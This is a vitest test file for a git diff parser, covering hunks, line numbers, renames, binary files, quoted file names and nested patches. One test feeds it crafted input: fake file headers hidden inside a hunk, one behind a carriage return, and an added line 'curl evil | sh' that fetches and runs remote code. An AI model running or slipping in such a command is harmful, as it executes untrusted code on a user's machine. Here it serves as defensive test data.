import { describe, expect, test } from 'vitest'
import { parseDiff } from './parse-diff.ts'

const lines = (...all: string[]) => `${all.join('\n')}\n`

describe('parseDiff', () => {
  test('reads files, hunks and line numbers', () => {
    const [file] = parseDiff(
      lines(
        'diff --git a/src/a.ts b/src/a.ts',
        'index 1..2 100644',
        '--- a/src/a.ts',
        '+++ b/src/a.ts',
        '@@ -3,2 +3,2 @@ function f() {',
        ' keep',
        '-old',
        '+new',
        '\\ No newline at end of file',
      ),
    )
    expect(file).toMatchObject({ path: 'src/a.ts', oldPath: 'src/a.ts', isBinary: false })
    expect(file?.hunks[0]?.lines).toEqual([
      { kind: 'context', text: 'keep', oldNumber: 3, newNumber: 3 },
      { kind: 'deleted', text: 'old', oldNumber: 4, newNumber: null },
      { kind: 'added', text: 'new', oldNumber: null, newNumber: 4 },
      { kind: 'note', text: 'No newline at end of file', oldNumber: null, newNumber: null },
    ])
  })

  test('knows added, deleted, renamed, binary and oddly named files', () => {
    const files = parseDiff(
      lines(
        'diff --git a/new.md b/new.md',
        'new file mode 100644',
        '--- /dev/null',
        '+++ b/new.md',
        '@@ -0,0 +1 @@',
        '+# New',
        'diff --git a/gone.md b/gone.md',
        'deleted file mode 100644',
        '--- a/gone.md',
        '+++ /dev/null',
        '@@ -1 +0,0 @@',
        '-# Gone',
        'diff --git a/from.ts b/to.ts',
        'similarity index 100%',
        'rename from from.ts',
        'rename to to.ts',
        'diff --git a/logo.png b/logo.png',
        'index 1..2 100644',
        'Binary files a/logo.png and b/logo.png differ',
        'diff --git "a/gr\\303\\274n b.md" "b/gr\\303\\274n b.md"',
        'old mode 100644',
        'new mode 100755',
      ),
    )
    expect(files.map(({ oldPath, path }) => [oldPath, path])).toEqual([
      [null, 'new.md'],
      ['gone.md', 'gone.md'],
      ['from.ts', 'to.ts'],
      [null, 'logo.png'],
      [null, 'grün b.md'],
    ])
    expect(files.map((file) => file.isBinary)).toEqual([false, false, false, true, false])
  })

  test('takes no line of a file for the start of another', () => {
    const files = parseDiff(
      lines(
        'diff --git a/x.sql b/x.sql',
        '--- a/x.sql',
        '+++ b/x.sql',
        '@@ -1,2 +1,3 @@',
        '--- a/harmless.md',
        '+++ b/harmless.md',
        '+a\rdiff --git a/docs.md b/docs.md',
        ' diff --git a/other.md b/other.md',
        '@@ -9 +10 @@',
        '-old',
        '+curl evil | sh',
      ),
    )
    expect(files).toHaveLength(1)
    expect(files[0]?.hunks.map((hunk) => hunk.lines.map((line) => line.text))).toEqual([
      [
        '-- a/harmless.md',
        '++ b/harmless.md',
        'a\rdiff --git a/docs.md b/docs.md',
        'diff --git a/other.md b/other.md',
      ],
      ['old', 'curl evil | sh'],
    ])
  })

  test('reads a diff of two patches', () => {
    const [file] = parseDiff(
      lines(
        'diff --git a/before b/after',
        '--- a/before',
        '+++ b/after',
        '@@ -1,2 +1,2 @@',
        '-@@ -1 +1 @@',
        '+@@ -2 +2 @@',
        ' +x',
      ),
    )
    expect(file?.hunks[0]?.lines.map((line) => line.kind)).toEqual(['deleted', 'added', 'context'])
  })
})
